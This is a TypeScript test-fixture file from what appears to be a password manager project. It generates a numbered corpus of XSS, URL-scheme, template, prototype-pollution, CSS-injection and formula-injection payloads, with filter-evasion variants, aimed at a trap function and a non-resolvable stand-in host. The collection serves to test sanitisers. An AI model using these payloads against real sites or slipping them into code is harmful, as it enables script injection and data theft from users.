// SPDX-FileCopyrightText: 2026 NexPass contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

/** Host that no payload may reach; the name cannot exist (RFC 2606). */
export const ELSEWHERE = 'elsewhere.test'

/** A text that wants to become more than text. `number` is in every action of it, so that a trap can say which one it was. */
export interface Payload {
	readonly number: number
	readonly text: string
	readonly kind: 'html' | 'url' | 'template' | 'style' | 'text'
}

type Act = (number: number) => string

/** What a payload does when it gets its way. The page has a trap called `nexpassHit`. */
const ACTIONS: readonly Act[] = [
	(n) => `nexpassHit(${n})`, (n) => `top.nexpassHit(${n})`, (n) => `alert(${n})`, (n) => `fetch('https://${ELSEWHERE}/${n}')`, (n) => `new Image().src='//${ELSEWHERE}/${n}'`,
	(n) => `import('https://${ELSEWHERE}/${n}.js')`, (n) => `setTimeout('nexpassHit(${n})')`, (n) => `location='https://${ELSEWHERE}/${n}'`,
]

/** Elements that run or load something. `a` is the script, `n` the number. */
const ELEMENTS: readonly ((a: string, n: number) => string)[] = [
	(a) => `<script>${a}</script>`,
	(_, n) => `<script src=//${ELSEWHERE}/${n}.js></script>`,
	(_, n) => `<script type=module>import '//${ELSEWHERE}/${n}.js'</script>`,
	(a) => `<img src=x onerror="${a}">`,
	(_, n) => `<img src=//${ELSEWHERE}/${n}.png>`,
	(_, n) => `<img srcset="//${ELSEWHERE}/${n}.png 1x">`,
	(a) => `<svg onload="${a}">`,
	(a) => `<svg><script>${a}</script></svg>`,
	(_, n) => `<svg><image href="//${ELSEWHERE}/${n}.svg"/></svg>`,
	(a) => `<svg><a><animate attributeName=href values="javascript:${a}"/><text y=20>x</text></a></svg>`,
	(a) => `<svg><foreignObject><img src=x onerror="${a}"></foreignObject></svg>`,
	(_, n) => `<svg><use href="//${ELSEWHERE}/${n}.svg#x"/></svg>`,
	(a) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${a}">`,
	(a) => `<body onload="${a}">`,
	(a) => `<iframe srcdoc="<script>parent.${a}</script>"></iframe>`,
	(a) => `<iframe src="javascript:parent.${a}"></iframe>`,
	(_, n) => `<iframe src="//${ELSEWHERE}/${n}"></iframe>`,
	(a) => `<input autofocus onfocus="${a}">`,
	(a) => `<select autofocus onfocus="${a}"><option>x</select>`,
	(a) => `<details open ontoggle="${a}"><summary>x</summary></details>`,
	(a) => `<video><source onerror="${a}"></video>`,
	(_, n) => `<video poster=//${ELSEWHERE}/${n}.png src=//${ELSEWHERE}/${n}.mp4></video>`,
	(a) => `<audio src=x onerror="${a}"></audio>`,
	(_, n) => `<object data="//${ELSEWHERE}/${n}"></object>`,
	(_, n) => `<embed src="//${ELSEWHERE}/${n}">`,
	(_, n) => `<link rel=stylesheet href=//${ELSEWHERE}/${n}.css>`,
	(_, n) => `<link rel=prefetch href=//${ELSEWHERE}/${n}>`,
	(_, n) => `<style>@import '//${ELSEWHERE}/${n}.css'</style>`,
	(a) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${a}">x</b>`,
	(_, n) => `<b style="background:url(//${ELSEWHERE}/${n}.png)">x</b>`,
	(_, n) => `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/${n}">`,
	(_, n) => `<base href=//${ELSEWHERE}/${n}/>`,
	(a) => `<a href="javascript:${a}">x</a>`,
	(_, n) => `<a href="//${ELSEWHERE}/${n}" ping="//${ELSEWHERE}/ping/${n}">x</a>`,
	(a) => `<form action="javascript:${a}"><button>x</button></form>`,
	(_, n) => `<form><button formaction="//${ELSEWHERE}/${n}">x</button></form>`,
	(a) => `<marquee onstart="${a}">x</marquee>`,
	(a) => `<b onmouseover="${a}" onclick="${a}" tabindex=0 onfocus="${a}">x</b>`,
	(a) => `<template><img src=x onerror="${a}"></template>`,
	(a) => `<x-y onpointerrawupdate="${a}" contenteditable onbeforeinput="${a}">x</x-y>`,
]

/** What has to be left before an element counts: an attribute, a comment, an element whose content is text. */
const WAYS_OUT: readonly string[] = ['', '">', `'>`, '</title>', '</textarea>', '</script>', '--><!-- -->', '</style>', ']]>', '<!--><', '</bdi></span></button>', '\u0000']

/** Disguises that some parsers see through, and some filters do not. */
const DISGUISES: readonly ((html: string) => string)[] = [
	(html) => html,
	(html) => html.replace(/<([a-z]+)/g, (_, name: string) => '<' + [...name].map((letter, i) => i % 2 === 0 ? letter.toUpperCase() : letter).join('')),
	(html) => html.replace(/<([a-z]+) /g, '<$1/'),
	(html) => html.replace(/<([a-z]+) /g, '<$1\n\t'),
	(html) => html.replace(/>$/, ''),
	(html) => html.replaceAll('"', ''),
	(html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(html) => encodeURIComponent(html),
	(html) => html.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
	(html) => html.replaceAll('<', '＜').replaceAll('>', '＞'),
	(html) => html.replaceAll('<', '<<'),
]

const SCHEMES: readonly Act[] = [
	(n) => `javascript:nexpassHit(${n})`, (n) => `JaVaScRiPt:nexpassHit(${n})`, (n) => ` javascript:nexpassHit(${n})`, (n) => `\tjavascript:nexpassHit(${n})`, (n) => `java\tscript:nexpassHit(${n})`,
	(n) => `java\nscript:nexpassHit(${n})`, (n) => `java\rscript:nexpassHit(${n})`, (n) => `\u0001javascript:nexpassHit(${n})`, (n) => `javascript\u200b:nexpassHit(${n})`, (n) => `javascript&colon;nexpassHit(${n})`,
	(n) => `&#106;avascript:nexpassHit(${n})`, (n) => `javascript://elsewhere%0anexpassHit(${n})`, (n) => `javascript:/*https://bank.example/*/nexpassHit(${n})`, (n) => `view-source:javascript:nexpassHit(${n})`,
	(n) => `data:text/html,<script>opener.nexpassHit(${n})</script>`, (n) => `data:text/html;base64,${Buffer.from(`<script>opener.nexpassHit(${n})</script>`).toString('base64')}`, (n) => `DATA:image/svg+xml,<svg onload=nexpassHit(${n})>`,
	(n) => `vbscript:nexpassHit(${n})`, (n) => `blob:https://${ELSEWHERE}/${n}`, (n) => `filesystem:https://${ELSEWHERE}/${n}`, (n) => `file:///etc/${n}`, (n) => `about:blank#${n}`, (n) => `intent://${ELSEWHERE}/${n}#Intent;scheme=https;end`,
	(n) => `ftp://${ELSEWHERE}/${n}`, (n) => `ws://${ELSEWHERE}/${n}`, (n) => `chrome://settings/${n}`, (n) => `mailto:x@${ELSEWHERE}?body=${n}`, (n) => `tel:+${n}`, (n) => `market://details?id=${n}`, (n) => `x-${n}:y`,
	(n) => `https://bank.example@${ELSEWHERE}/${n}`, (n) => `https://bank.example\\@${ELSEWHERE}/${n}`, (n) => `https:\\\\${ELSEWHERE}\\${n}`, (n) => `//${ELSEWHERE}/${n}`, (n) => `\\\\${ELSEWHERE}\\${n}`, (n) => `https://b\u0430nk.example/${n}`,
	(n) => `https://bank.example\u202egpj.${n}`, (n) => `https://bank.example/\u2066${n}`, (n) => `https://bank.example%00.${ELSEWHERE}/${n}`, (n) => `http://[::ffff:7f00:1]/${n}`, (n) => `https://bank.example:${n}0000/`,
]

const TEMPLATES: readonly Act[] = [
	(n) => `{{constructor.constructor('nexpassHit(${n})')()}}`, (n) => `{{_c.constructor('nexpassHit(${n})')()}}`, (n) => `{{$root.constructor.constructor('nexpassHit(${n})')()}}`, (n) => `{{toString.constructor('nexpassHit(${n})')()}}`,
	(n) => `\${nexpassHit(${n})}`, (n) => `#{nexpassHit(${n})}`, (n) => `<%= nexpassHit(${n}) %>`, (n) => `[[nexpassHit(${n})]]`, (n) => `{% nexpassHit(${n}) %}`, (n) => `<div v-html="'<img src=x onerror=nexpassHit(${n})>'"></div>`,
	(n) => `<p @vue:mounted="nexpassHit(${n})"></p>`, (n) => `<component :is="'script'">nexpassHit(${n})</component>`, (n) => `v-on:click=nexpassHit(${n})`, (n) => `' + nexpassHit(${n}) + '`, (n) => `";nexpassHit(${n});//`, (n) => `\`;nexpassHit(${n});\``,
	(n) => `{"__proto__":{"nexpass":${n}}}`, (n) => `__proto__[innerHTML]=<img src=x onerror=nexpassHit(${n})>`, (n) => `constructor.prototype.${n}`, (n) => `\u2028nexpassHit(${n})\u2029`,
	(n) => `[x](javascript:nexpassHit(${n}))`, (n) => `![x](//${ELSEWHERE}/${n}.png)`, (n) => `[x]: javascript:nexpassHit(${n})`, (n) => `<javascript:nexpassHit(${n})>`, (n) => `# <img src=x onerror=nexpassHit(${n})>`, (n) => `**<b onmouseover=nexpassHit(${n})>x</b>**`,
]

const STYLES: readonly Act[] = [
	(n) => `red;background:url(//${ELSEWHERE}/${n})`, (n) => `url(//${ELSEWHERE}/${n})`, (n) => `var(--x,url(//${ELSEWHERE}/${n}))`, (n) => `expression(nexpassHit(${n}))`, (n) => `#fff"onload="nexpassHit(${n})`, (n) => `red}*{background:url(//${ELSEWHERE}/${n})}`,
	(n) => `image-set("//${ELSEWHERE}/${n}" 1x)`, (n) => `-moz-binding:url(//${ELSEWHERE}/${n}#x)`, (n) => `red/*${n}*/;behavior:url(#x)`, (n) => `\\75rl(//${ELSEWHERE}/${n})`,
]

const TEXTS: readonly Act[] = [
	(n) => `\u202e${n}\u202c`, (n) => `\u2067${n}`, (n) => '\u0000\u0001\u0008\u001b[31m' + n, (n) => `${'a\u0334'.repeat(200)}${n}`, (n) => `\ud800${n}`, (n) => `=cmd|'/c calc'!A${n}`, (n) => `${'W'.repeat(4000)}${n}`, (n) => `\ufeff${n}\u200f\u200e`,
]

const action = (i: number): Act => ACTIONS[i % ACTIONS.length] ?? String
const pick = <T>(all: readonly T[], i: number): T => all[i % all.length] as T

/** The corpus, always the same: every element with its plain form and with changing ways out and disguises, every scheme, template, style and odd text. */
export function payloads(): readonly Payload[] {
	const made: { readonly kind: Payload['kind'], readonly make: Act }[] = []
	ELEMENTS.forEach((element, i) => {
		made.push({ kind: 'html', make: (n) => element(action(0)(n), n) })
		WAYS_OUT.forEach((way, j) => made.push({ kind: 'html', make: (n) => pick(DISGUISES, i + j)(way + element(action(i + j)(n), n)) }))
	})
	for (const [kind, all] of [['url', SCHEMES], ['template', TEMPLATES], ['style', STYLES], ['text', TEXTS]] as const) for (const make of all) made.push({ kind, make })
	return made.map(({ kind, make }, number) => ({ number, kind, text: make(number) }))
}
